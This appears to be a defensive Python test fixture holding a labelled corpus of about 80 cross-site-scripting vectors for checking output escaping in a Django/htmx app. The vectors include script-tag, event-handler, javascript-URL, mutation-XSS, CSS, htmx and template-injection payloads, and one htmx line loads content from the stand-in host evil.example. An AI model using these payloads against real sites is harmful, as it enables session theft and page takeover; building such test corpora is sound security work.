# ruff: noqa: E501  (payload lines are long on purpose)
"""An XSS corpus for every user-entered or imported text field outside runbook sections
(issue 9): step notes, outcome text, incident references, Alertmanager labels/annotations.

Every vector, if it ran, would set ``window.__pwned = 1`` (some also call ``alert``), so a
test only has to look for that, for dialogs, and for elements or attributes carrying
``__pwned``. The Django-template vectors must survive as literal text (a second template
pass would turn them into the user's name, the year, or an ``<img>`` that sets the flag).

Each vector is at most ``MAX_VECTOR`` characters, so a vector with its id fits into the
shortest field that gets whole vectors (incident references hold 120 characters).
"""

from __future__ import annotations

MAX_VECTOR = 80

VECTORS: list[tuple[str, str]] = [
    # <script> in its spellings
    ("script", "<script>window.__pwned=1;alert('script')</script>"),
    ("script-case", "<ScRiPt>window.__pwned=1</sCrIpT>"),
    ("script-nested", "<scr<script>ipt>window.__pwned=1</scr</script>ipt>"),
    ("script-double-lt", "<<script>script>window.__pwned=1<</script>/script>"),
    ("script-unclosed", "<script>window.__pwned=1//"),
    ("script-src-data", '<script src="data:text/javascript,window.__pwned=1"></script>'),
    ("script-close", "</script><script>window.__pwned=1</script>"),
    ("svg-script", "<svg><script>window.__pwned=1</script></svg>"),
    # event handlers
    ("img-onerror", "<img src=x onerror=\"window.__pwned=1;alert('img')\">"),
    ("img-unquoted", "<img src=x onerror=window.__pwned=1>"),
    ("img-slashes", "<img/src=x/onerror=window.__pwned=1>"),
    ("img-unclosed", "<img src=x onerror=window.__pwned=1//"),
    ("img-entity-js", '<img src=x onerror="&#119;indow.__pwned&#x3d;1">'),
    ("img-atob", "<img src=x onerror=eval(atob('d2luZG93Ll9fcHduZWQ9MQ=='))>"),
    ("input-image", "<input type=image src=x onerror=window.__pwned=1>"),
    ("svg-onload", "<svg onload=window.__pwned=1>"),
    ("svg-animate", "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>"),
    ("body-onload", "<body onload=window.__pwned=1>"),
    ("details-toggle", "<details open ontoggle=window.__pwned=1>"),
    ("video-source", "<video><source onerror=window.__pwned=1></video>"),
    ("audio-onerror", "<audio src=x onerror=window.__pwned=1>"),
    ("input-autofocus", "<input autofocus onfocus=window.__pwned=1>"),
    ("select-autofocus", "<select autofocus onfocus=window.__pwned=1></select>"),
    ("marquee", "<marquee onstart=window.__pwned=1>x</marquee>"),
    ("overlay-hover", '<div style="position:fixed;inset:0" onmouseover=window.__pwned=1>x</div>'),
    ("a-onclick", '<a href="#" onclick="window.__pwned=1">click</a>'),
    # frames and embedded documents
    ("iframe-js", '<iframe src="javascript:parent.__pwned=1"></iframe>'),
    ("iframe-colon", "<iframe src=javascript&colon;parent.__pwned=1>"),
    ("iframe-srcdoc", '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>'),
    ("object-data", '<object data="javascript:window.__pwned=1"></object>'),
    ("embed-data", '<embed src="data:text/html,<script>parent.__pwned=1</script>">'),
    # script-scheme URLs, in Markdown and in raw anchors
    ("md-js", "[click me](javascript:window.__pwned=1)"),
    ("md-js-case", "[click me](JaVaScRiPt:window.__pwned=1)"),
    ("md-data", "[x](data:text/html,<script>window.__pwned=1</script>)"),
    ("md-vbscript", "[x](vbscript:window.__pwned=1)"),
    ("md-autolink", "<javascript:window.__pwned=1>"),
    ("md-img-attr", '![x](x" onerror="window.__pwned=1)'),
    ("a-js", '<a href="javascript:window.__pwned=1">x</a>'),
    ("a-tab-entity", '<a href="jav&#x09;ascript:window.__pwned=1">x</a>'),
    ("a-decimal-entity", '<a href="&#106;avascript:window.__pwned=1">x</a>'),
    ("a-newline-entity", '<a href="java&NewLine;script:window.__pwned=1">x</a>'),
    ("a-leading-space", '<a href=" javascript:window.__pwned=1">x</a>'),
    ("a-case-unquoted", "<a href=JaVaScRiPt:window.__pwned=1>x</a>"),
    ("a-data-html", '<a href="data:text/html,<script>window.__pwned=1</script>">x</a>'),
    ("svg-xlink", '<svg><a xlink:href="javascript:window.__pwned=1"><text y=9>x</text></a></svg>'),
    ("form-action", '<form action="javascript:window.__pwned=1"><button>go</button></form>'),
    ("formaction", '<button formaction="javascript:window.__pwned=1">go</button>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">'),
    ("base-href", '<base href="javascript:window.__pwned=1//">'),
    ("link-css", '<link rel=stylesheet href="javascript:window.__pwned=1">'),
    # breaking out of an attribute, a JS string, a raw-text element, a comment
    ("attr-dq", '"><svg onload=window.__pwned=1>'),
    ("attr-sq", "'><img src=x onerror=window.__pwned=1>"),
    ("attr-unquoted", "x autofocus onfocus=window.__pwned=1 x="),
    ("js-sq", "'-alert(window.__pwned=1)-'"),
    ("js-dq", '";window.__pwned=1;//'),
    ("js-template", "`;${window.__pwned=1}`"),
    ("json-break", '\\"}</script><script>window.__pwned=1</script>'),
    ("textarea-close", "</textarea><script>window.__pwned=1</script>"),
    ("title-close", "</title><script>window.__pwned=1</script>"),
    ("style-close", "</style><script>window.__pwned=1</script>"),
    ("comment-close", "--><script>window.__pwned=1</script>"),
    ("cdata", "<![CDATA[<script>window.__pwned=1</script>]]>"),
    # mutation XSS: markup that changes meaning when parsed, serialised and parsed again
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">'),
    ("math-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>"),
    ("svg-style-mxss", '<svg></p><style><a id="</style><img src=x onerror=window.__pwned=1>">'),
    ("template", "<template><img src=x onerror=window.__pwned=1></template>"),
    # CSS
    ("style-url", '<div style="background:url(javascript:window.__pwned=1)">x</div>'),
    ("css-expression", '<div style="width:expression(window.__pwned=1)">x</div>'),
    ("style-import", "<style>@import 'javascript:window.__pwned=1';</style>"),
    # htmx attributes (the app loads htmx: processed markup would run them)
    ("hx-on", '<div hx-on:htmx:load="window.__pwned=1">x</div>'),
    (
        "hx-on-dashes",
        '<b hx-get="/" hx-trigger="load" hx-on::before-request="window.__pwned=1">x</b>',
    ),
    ("data-hx-on", '<div data-hx-on:htmx:load="window.__pwned=1">x</div>'),
    (
        "hx-get-hostile",
        '<i hx-get="//evil.example/?__pwned" hx-trigger=load hx-swap=outerHTML>x</i>',
    ),
    ("hx-vals-js", '<p hx-post="/" hx-trigger=load hx-vals="js:{a:window.__pwned=1}">x</p>'),
    # template syntax: must stay literal (a second template pass would evaluate it)
    ("django-var", "{{ request.user }}{{ user.password }}<svg onload=window.__pwned=1>"),
    ("django-tag", '{% now "Y" %}{% csrf_token %}{% debug %}'),
    ("django-safe", "{{ '<img src=x onerror=window.__pwned=1>'|safe }}"),
    ("angular", "{{constructor.constructor('window.__pwned=1')()}}"),
    # encodings
    ("percent-encoded", "%3Cscript%3Ewindow.__pwned=1%3C/script%3E"),
    ("entity-encoded", "&lt;script&gt;window.__pwned=1&lt;/script&gt;"),
]

IDS = [vid for vid, _payload in VECTORS]
PAYLOADS = [payload for _vid, payload in VECTORS]
SEPARATOR = " ¦ "


def labelled(vid: str, payload: str) -> str:
    """A vector with its id in front, so a failure names the vector."""
    return f"[{vid}] {payload}"


def groups(limit: int) -> list[list[tuple[str, str]]]:
    """Every vector once, packed (first fit, longest first) into groups whose payloads,
    joined by ``SEPARATOR``, take at most ``limit`` characters. Vectors are never split."""
    packed: list[list[tuple[str, str]]] = []
    sizes: list[int] = []
    for vid, payload in sorted(VECTORS, key=lambda v: -len(v[1])):
        if len(payload) > limit:
            raise ValueError(f"{vid} is longer than {limit} characters")
        for i, size in enumerate(sizes):
            if size + len(SEPARATOR) + len(payload) <= limit:
                packed[i].append((vid, payload))
                sizes[i] += len(SEPARATOR) + len(payload)
                break
        else:
            packed.append([(vid, payload)])
            sizes.append(len(payload))
    return packed


def joined(group: list[tuple[str, str]]) -> str:
    return SEPARATOR.join(payload for _vid, payload in group)


def chunks(limit: int) -> list[str]:
    """The whole corpus in texts of at most ``limit`` characters (see ``groups``)."""
    return [joined(group) for group in groups(limit)]


def everything() -> str:
    """The whole corpus as one text, each vector with its id."""
    return SEPARATOR.join(labelled(vid, payload) for vid, payload in VECTORS)


def vector_id(payload: str) -> str:
    return IDS[PAYLOADS.index(payload)]


assert len(set(IDS)) == len(IDS), "vector ids must be unique"
assert len(set(PAYLOADS)) == len(PAYLOADS), "vectors must be distinct"
assert all(len(p) <= MAX_VECTOR for p in PAYLOADS), "a vector is longer than MAX_VECTOR"
